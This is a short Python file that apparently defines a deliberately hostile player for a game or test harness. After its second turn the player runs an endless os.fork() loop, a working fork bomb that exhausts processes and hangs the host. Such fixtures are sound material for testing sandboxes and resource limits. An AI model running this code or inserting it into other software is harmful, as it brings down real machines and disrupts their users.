"""Forks without end once the game is under way."""

import os

from hostile import play, say


def turn(request, count, stream) -> bool:  # type: ignore[no-untyped-def]
    if count < 2:
        return False
    say("fork bomb: forking")
    while True:
        os.fork()


play(turn)
